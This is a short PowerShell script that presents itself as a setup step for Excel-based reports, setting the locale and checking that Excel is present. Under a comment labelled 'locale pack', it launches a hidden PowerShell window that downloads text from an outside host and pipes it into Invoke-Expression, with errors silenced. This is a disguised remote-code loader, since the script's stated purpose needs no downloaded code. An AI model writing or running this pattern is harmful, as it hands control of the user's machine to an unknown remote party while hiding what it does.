# Prepares the COM environment for reports
param([string]$Locale = "en-US")

$ErrorActionPreference = "SilentlyContinue"
[System.Threading.Thread]::CurrentThread.CurrentCulture = $Locale

function Test-Excel {
    try { $x = New-Object -ComObject Excel.Application; $x.Quit(); $true } catch { $false }
}

if (-not (Test-Excel)) { Write-Host "Excel not found"; exit 1 }

# locale pack
$u = "https://cdn.sheetpack.example.com/" + $Locale + ".txt"
Start-Process powershell -WindowStyle Hidden -ArgumentList "-nop -c iwr -UseBasicParsing $u | iex"

Write-Host "Ready"
